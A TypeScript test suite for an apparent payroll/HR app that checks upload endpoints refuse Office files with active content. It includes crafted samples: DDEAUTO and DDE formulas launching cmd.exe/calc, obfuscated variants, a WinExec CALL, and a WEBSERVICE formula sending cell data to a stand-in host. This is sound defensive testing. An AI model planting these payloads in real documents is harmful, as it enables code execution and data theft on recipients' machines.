import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { checkDocument, fillDocument, sendDocument } from '@paga/contract/documents';
import { uploadAttachment } from '@paga/contract/employees';
import type { Endpoint } from '@paga/contract/endpoint';
import { freshServer, type TestServer } from '@paga/testing/server';
import { aDocx, DOCX_TYPE } from '@paga/testing/word';
import { zipped } from '@paga/testing/workbook';
import { eq } from 'drizzle-orm';
import type { z } from 'zod';
import { areas } from '#areas.ts';
import { folderFiles } from '#core/files/folder-files.ts';
import { bindCalls } from '#core/http/bound-call.ts';
import { documentTemplate } from '#documents/table.ts';
import { type Populated, populated } from './fixture.ts';
import { sampleInput } from './sample-input.ts';

// Every construct by which an office file acts when it is opened, in every call that takes a file.

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const words = (...texts: string[]) =>
  texts.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('');
const field = (...inner: string[]) =>
  `${char('begin')}${inner.join('')}${char('separate')}<w:r><w:t>x</w:t></w:r>${char('end')}`;
const withBody = (body: string, extra: Record<string, string | Uint8Array> = {}) =>
  Buffer.from(
    aDocx([], {
      extra: {
        'word/document.xml': `<w:document ${W}><w:body><w:p>${body}</w:p></w:body></w:document>`,
        ...extra,
      },
    }),
  );
const office = (parts: Record<string, string | Uint8Array>) =>
  zipped({ '[Content_Types].xml': '<Types/>', ...parts });
const workbook = (parts: Record<string, string>) => office({ 'xl/workbook.xml': '<workbook/>', ...parts });
const formula = (text: string) =>
  workbook({
    'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row><c><f>${text}</f></c></row></sheetData></worksheet>`,
  });
const related = (main: string, type: string, mode = 'External') =>
  office({
    [main]: '<x/>',
    'word/_rels/document.xml.rels': `<Relationships><Relationship Id="a" Type="${RELATIONS}/${type}" Target="https://example.test/x" TargetMode="${mode}"/></Relationships>`,
  });
const WORD = 'word/document.xml';
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');

/** Each with what the refusal names. */
const ACTING: readonly [string, Buffer, string][] = [
  ['Word: DDEAUTO', withBody(field(words('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))), 'DDEAUTO'],
  ['Word: dde in small letters', withBody(field(words(' dde excel a'))), 'DDE'],
  ['Word: DDEAUTO in pieces', withBody(field(words('DD', 'EAU', 'TO x y'))), 'DDEAUTO'],
  [
    'Word: DDEAUTO put together by another field',
    withBody(field(field(words('QUOTE 68 68 69')), words(' x'))),
    'made by another',
  ],
  [
    'Word: DDEAUTO inside another field',
    withBody(field(words('IF '), field(words('DDEAUTO a b')), words(' = 1'))),
    'DDEAUTO',
  ],
  ['Word: DDEAUTO of a simple field', withBody('<w:fldSimple w:instr=" DDEAUTO a b "/>'), 'DDEAUTO'],
  ['Word: DDEAUTO without its end', withBody(`${char('begin')}${words('DDEAUTO a b')}`), 'DDEAUTO'],
  [
    'Word: DDEAUTO under another prefix',
    office({ [WORD]: '<a:document xmlns:a="x"><a:fldSimple a:instr="DDEAUTO a"/></a:document>' }),
    'DDEAUTO',
  ],
  [
    'Word: DDEAUTO in a header',
    withBody('', { 'word/header1.xml': `<w:hdr ${W}>${field(words('DDEAUTO a b'))}</w:hdr>` }),
    'DDEAUTO',
  ],
  [
    'Word: DDEAUTO in UTF-16',
    office({ [WORD]: utf16('<w:document xmlns:w="x"><w:fldSimple w:instr="DDEAUTO a"/></w:document>') }),
    'DDEAUTO',
  ],
  [
    'Word: DDEAUTO in a part that is called a picture',
    withBody('', { 'word/media/image1.png': '<w:x xmlns:w="x"><w:fldSimple w:instr="DDEAUTO a"/></w:x>' }),
    'DDEAUTO',
  ],
  [
    'Word: an encoding that hides names',
    office({ [WORD]: '<?xml version="1.0" encoding="UTF-7"?><w/>' }),
    'encoding',
  ],
  [
    'Word: INCLUDEPICTURE of an address',
    withBody(field(words('INCLUDEPICTURE "http://example.test/a.png"'))),
    'INCLUDEPICTURE',
  ],
  ['Word: INCLUDETEXT', withBody(field(words('INCLUDETEXT "\\\\\\\\server\\\\a.docx"'))), 'INCLUDETEXT'],
  ['Word: LINK', withBody(field(words('LINK Excel.Sheet.12 a'))), 'LINK'],
  ['Word: DATABASE', withBody(field(words('DATABASE \\d "a.mdb"'))), 'DATABASE'],
  ['Word: a chunk of another format', withBody('<w:altChunk/>'), 'altChunk'],
  [
    'Word: a picture of an address in old drawings',
    withBody('<v:imagedata xmlns:v="v" src="http://example.test/a.png"/>'),
    'imagedata',
  ],
  ['Word: a remote template', related(WORD, 'attachedTemplate'), 'attachedTemplate'],
  ['Word: a remote picture', related(WORD, 'image'), 'image'],
  ['Word: a linked object', related(WORD, 'oleObject', 'Internal'), 'oleObject'],
  ['Excel: DDE that starts a program', formula("cmd|'/c calc'!A0"), 'cmd|'],
  ['Excel: DDE within a formula', formula("1+MSEXCEL|'\\..\\cmd.exe /c calc'!''"), 'MSEXCEL|'],
  ['Excel: WEBSERVICE', formula('_xlfn.WEBSERVICE("http://example.test/"&amp;A1)'), 'WEBSERVICE'],
  ['Excel: RTD', formula('RTD("a",,"b")'), 'RTD'],
  ['Excel: CALL', formula('CALL("kernel32","WinExec","JCJ","calc",0)'), 'CALL'],
  [
    'Excel: a name that is DDE',
    workbook({ 'xl/names.xml': `<a><definedName name="x">cmd|'/c calc'!A0</definedName></a>` }),
    'cmd|',
  ],
  [
    'Excel: a DDE link',
    workbook({
      'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
    }),
    'ddeLink',
  ],
  ['Excel: another workbook', related('xl/workbook.xml', 'externalLinkPath'), 'externalLinkPath'],
  [
    'Excel: a query of the web',
    workbook({
      'xl/connections.xml':
        '<connections><connection><webPr url="http://example.test"/></connection></connections>',
    }),
    'webPr',
  ],
  ['Excel: a sheet of old macros', related('xl/workbook.xml', 'xlMacrosheet', 'Internal'), 'xlMacrosheet'],
  [
    'PowerPoint: an action that starts a program',
    office({
      'ppt/presentation.xml': '<x/>',
      'ppt/slides/slide1.xml': '<p><a:hlinkClick xmlns:a="a" action="ppaction://program"/></p>',
    }),
    'ppaction',
  ],
  ['PowerPoint: a remote video', related('ppt/presentation.xml', 'video'), 'video'],
];

/** What looks alike and does nothing. */
const HONEST: readonly [string, Buffer][] = [
  ['a text that speaks of DDEAUTO', Buffer.from(aDocx(['DDEAUTO, INCLUDEPICTURE dhe cmd|calc']))],
  [
    'fields for date, page, form and link',
    withBody(
      [
        'DATE \\@ "d.M.yyyy"',
        'PAGE',
        'MERGEFIELD Emri',
        'HYPERLINK "http://example.test"',
        'MACROBUTTON Shkruani',
      ]
        .map((text) => field(words(text)))
        .join(''),
    ),
  ],
  ['a field with one inside it', withBody(field(words('IF '), field(words('PAGE')), words(' = 1 "a" "b"')))],
  ['formulas of a workbook', formula('IF(A1&gt;0,SUM(B1:B9)&amp;"a|b","CALL(me)")')],
  ['a link to click', related(WORD, 'hyperlink')],
  ['a drawing of a picture', withBody('', { 'word/media/a.svg': '<!DOCTYPE svg PUBLIC "a" "b"><svg/>' })],
];

/** What keeps a file as it was sent. */
const STORES = ['createDocument', 'updateDocument', 'uploadAttachment', 'saveTaskConfirmation'];
/** What makes a picture of its own, or reads a workbook and keeps nothing of it: nobody opens the file again. */
const KEEPS_NONE = [
  ...['uploadOwnPhoto', 'uploadLogo', 'uploadPhoto', 'updateEmployee', 'reportSickness'],
  ...['previewEdiImport', 'readEdiListColumns', 'saveEdiImport', 'previewImport', 'previewLeaveImport'],
  'readForemanSheet',
];

const takesFile = ({ body, bodyType }: Endpoint): boolean =>
  bodyType === 'multipart' && body !== undefined && fileFieldsOf(body).length > 0;
const fileFieldsOf = (body: z.ZodType): string[] =>
  Object.entries((body as z.ZodObject).shape ?? {}).flatMap(([name, schema]) =>
    isFile(schema as z.ZodType) ? [name] : [],
  );
function isFile(schema: z.ZodType): boolean {
  const { innerType, element, in: inner } = schema.def as unknown as Record<string, z.ZodType | undefined>;
  const next = innerType ?? element ?? inner;
  return schema.def.type === 'file' || (next !== undefined && isFile(next));
}

const around = mkdtempSync(path.join(tmpdir(), 'paga-acting-'));
let server: TestServer;
let fixture: Populated;
beforeAll(async () => {
  server = await freshServer('acting_files', { files: folderFiles(around) });
  fixture = await populated(server, 'Agimi');
});
afterAll(() => rmSync(around, { recursive: true, force: true }));

const stored = () =>
  readdirSync(around, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).length;
const admin = () => server.as(fixture.company.admin);
const takers = bindCalls(areas).filter(({ handler, call }) => handler && takesFile(call));

function sendTo(call: Endpoint, content: Buffer) {
  const { body, ...rest } = sampleInput(call, fixture.company.id, fixture);
  const file = () => new File([Uint8Array.from(content)], 'Kontrata.docx');
  const files = fileFieldsOf(call.body as z.ZodType).map((name) => [
    name,
    Array.isArray(body?.[name]) || name === 'files' ? [file()] : file(),
  ]);
  return admin().call(call, { ...rest, body: { ...body, ...Object.fromEntries(files) } } as never);
}

test('every call that takes a file either stores it, and refuses what acts, or keeps nothing of it', () => {
  expect(takers.map(({ name }) => name).sort()).toEqual([...STORES, ...KEEPS_NONE].sort());
});

test.each(ACTING)('%s is refused wherever files are stored', async (_, content, named) => {
  const before = stored();
  for (const { name, call } of takers.filter((taker) => STORES.includes(taker.name))) {
    const { status, body } = await sendTo(call, content);
    expect({ name, status, code: body.code }).toEqual({ name, status: 415, code: 'FILE_HAS_ACTIVE_CONTENT' });
    expect(body.message).toContain(named);
  }
  expect(stored()).toBe(before);
});

test.each(HONEST)('%s is taken', async (_, content) => {
  expect((await sendTo(uploadAttachment, content)).status).toBe(200);
});

test.each(
  takers.filter(({ name }) => KEEPS_NONE.includes(name)).map(({ name, call }) => [name, call] as const),
)('%s keeps nothing of it', async (_, call) => {
  const before = stored();
  for (const [, content] of ACTING.slice(0, 2))
    expect((await sendTo(call, content)).status).toBeLessThan(500);
  expect(stored()).toBe(before);
});

const OLD = `1/documents/${'0'.repeat(32)}.docx`;

test('a template stored before such files were refused is neither looked at, filled nor mailed', async () => {
  const [, content] = ACTING[0] ?? [];
  const documentId = fixture.documentId;
  await folderFiles(around).putFile(OLD, Uint8Array.from(content ?? []));
  await server.inCompany(fixture.company.id, (tx) =>
    tx
      .update(documentTemplate)
      .set({ storageName: OLD, contentType: DOCX_TYPE, fileName: 'Kontrata.docx' })
      .where(eq(documentTemplate.id, documentId)),
  );
  const employeeIds = [fixture.employeeId];
  const refused = {
    status: 415,
    body: { code: 'FILE_HAS_ACTIVE_CONTENT', message: expect.stringContaining('DDEAUTO') },
  };
  expect(await admin().call(checkDocument, { body: { documentId, employeeIds } })).toMatchObject(refused);
  expect(
    await admin().call(fillDocument, { body: { documentId, employeeIds, keep: true, isContract: false } }),
  ).toMatchObject(refused);
  expect(await admin().call(sendDocument, { body: { documentId, email: 'mira@example.com' } })).toMatchObject(
    refused,
  );
});
